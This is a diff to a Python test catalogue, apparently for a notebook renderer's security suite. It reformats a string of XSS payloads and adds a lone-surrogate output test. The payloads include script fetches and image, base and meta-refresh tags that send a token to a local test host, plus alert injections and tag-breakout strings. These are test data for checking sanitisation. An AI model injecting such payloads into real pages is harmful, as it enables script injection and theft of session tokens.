@@ -6,7 +6,7 @@ from __future__ import annotations
 
 import json
 
-from attacks.catalogue import Submission, edited, entry, lost
+from attacks.catalogue import Submission, cell, edited, entry, lost
 from attacks.course import ALL, NONE, SOME, cell_of
 
 NOTHING_READ = {"solved": NONE, "review": True}
@@ -43,9 +43,12 @@ def _answer(text):
     return change
 
 
-SCRIPT = """<script>fetch('http://127.0.0.1:@http@/@token@')</script><img src=x onerror="alert(1)"><svg onload=alert(2)>
-[link](javascript:alert(3)) ![](http://127.0.0.1:@http@/@token@.png) <iframe srcdoc="<script>alert(4)</script>"></iframe>
-</textarea></title></style><base href="http://127.0.0.1:@http@/"><meta http-equiv="refresh" content="0;url=http://127.0.0.1:@http@/@token@">"""
+SCRIPT = """<script>fetch('http://127.0.0.1:@http@/@token@')</script>\
+<img src=x onerror="alert(1)"><svg onload=alert(2)>
+[link](javascript:alert(3)) ![](http://127.0.0.1:@http@/@token@.png) \
+<iframe srcdoc="<script>alert(4)</script>"></iframe>
+</textarea></title></style><base href="http://127.0.0.1:@http@/">\
+<meta http-equiv="refresh" content="0;url=http://127.0.0.1:@http@/@token@">"""
 
 
 def _script(notebook, world):
@@ -225,12 +228,24 @@ ENTRIES = [
         solved=SOME,
         page=True,
     ),
+    cell(
+        "Half a character stands in what it prints, shows and raises",
+        r"""
+        from IPython.display import display
+        print("\ud800")
+        display({"text/plain": "\udfff"}, raw=True)
+        """,
+        answers={
+            "double": r'raise ValueError("\ud800")',
+            "box": r'raise ValueError("\udfff" * 100)',
+        },
+        solved=NONE,
+        page=True,
+    ),
     edited(
         "Half a character stands in its text",
         _answer("\ud800"),
         solved=SOME,
-        sealed=lost(SOME),
-        review=True,
-        says="UTF-8",
+        page=True,
     ),
 ]
